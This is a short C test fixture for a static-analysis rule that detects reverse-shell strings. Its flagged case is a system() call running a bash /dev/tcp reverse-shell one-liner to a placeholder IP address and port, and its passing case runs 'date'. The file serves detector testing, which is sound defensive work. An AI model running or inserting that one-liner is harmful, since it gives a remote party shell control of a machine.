/* Fixture for generic-reverse-shell-string.
 * RULEID: system() of a /dev/tcp one-liner. OK: system() of a date command. */
#include <stdlib.h>
void beacon(void) {
    // ruleid: generic-reverse-shell-string
    system("/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'");
    // ok: generic-reverse-shell-string
    system("date");
}
